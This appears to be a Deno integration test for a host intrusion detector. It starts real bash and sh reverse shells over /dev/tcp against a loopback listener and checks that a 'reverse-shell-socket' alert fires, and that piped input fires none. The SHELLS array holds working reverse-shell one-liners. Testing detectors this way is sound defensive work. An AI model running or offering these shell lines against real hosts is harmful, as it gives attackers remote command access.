/** Shells whose commands come from the network, started for real, from the kernel to the alert. */
import assert from "node:assert/strict";
import { needs } from "../support/needs.ts";
import { World } from "../support/world.ts";

const kernel = needs({ root: true, bpf: true, programs: ["bash"] });

/** As written on the command line of a bash that is started with these words, for a listener at a port of this host. */
const SHELLS: readonly {
  readonly how: string;
  readonly script: string;
  readonly name: string;
  readonly line: string;
}[] = [
  { how: "bash -i", script: "exec bash -i <>/dev/tcp/127.0.0.1/$0 >&0 2>&0", name: "bash", line: "bash -i" },
  { how: "sh without arguments", script: "exec 5<>/dev/tcp/127.0.0.1/$0; sh <&5 >&5 2>&5", name: "sh", line: "sh" },
];

Deno.test({
  name: "a shell with a socket as its standard input is an alert, however it was started",
  ignore: kernel.ignore,
  async fn(t) {
    await using world = await World.start();
    for (const { how, script, name, line } of SHELLS) {
      await t.step(how, async () => {
        using listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
        const child = new Deno.Command("bash", {
          args: ["--norc", "-c", script, String(listener.addr.port)],
          env: { HOME: "/nonexistent" },
          stdin: "null",
          stdout: "null",
          stderr: "null",
        }).spawn();
        using operator = await listener.accept();
        try {
          // Whoever listens types, and the shell answers: it is one.
          await operator.write(new TextEncoder().encode("echo shell-$((6 * 7)) $PPID $$\n"));
          const [, pid] = /shell-42 \d+ (\d+)\n/.exec(await readUntil(operator, /shell-42 \d+ \d+\n/))!;
          const starts = (): Record<string, string | number | null>[] =>
            world.query("SELECT * FROM process_events WHERE event_type = 'start' AND pid = ? AND name = ?", +pid!, name)
              .filter((row) => row["command_line"] === line);
          await world.until("its start is stored", () => starts().length === 1);
          const [start] = starts();
          assert.deepEqual([start!["stdin_kind"], start!["stdout_kind"]], ["socket", "socket"]);
          const alerts = (): Record<string, string | number | null>[] =>
            world.query("SELECT * FROM alerts WHERE event_id = ?", start!["event_id"]!);
          await world.until("an alert is stored", () => alerts().length > 0);
          assert.deepEqual(alerts().map((alert) => alert["rule_id"]), ["reverse-shell-socket"]);
        } finally {
          await operator.write(new TextEncoder().encode("exit\n"));
          await child.status;
        }
      });
    }
    // The same shells with other input are no alert.
    const before = world.count("SELECT count(*) FROM alerts WHERE rule_id = 'reverse-shell-socket'");
    const tag = `piped${Deno.pid}`;
    const piped = new Deno.Command("/bin/sh", {
      args: ["-c", `echo exit | exec bash -i ; exit 0`, tag],
      stderr: "null",
    });
    assert.ok((await piped.output()).success);
    await world.until(
      "its end is stored",
      () =>
        world.count(
          "SELECT count(*) FROM process_events WHERE event_type = 'stop' AND command_line LIKE ?",
          `%${tag}`,
        ) > 0,
    );
    assert.equal(world.count("SELECT count(*) FROM alerts WHERE rule_id = 'reverse-shell-socket'"), before);
    assert.equal(before, SHELLS.length);
  },
});

async function readUntil(connection: Deno.Conn, pattern: RegExp): Promise<string> {
  const decoder = new TextDecoder(), bytes = new Uint8Array(4_096);
  let text = "";
  while (!pattern.test(text)) {
    const count = await connection.read(bytes);
    assert.notEqual(count, null, `the shell ended, after ${JSON.stringify(text)}`);
    text += decoder.decode(bytes.subarray(0, count!), { stream: true });
  }
  return text;
}
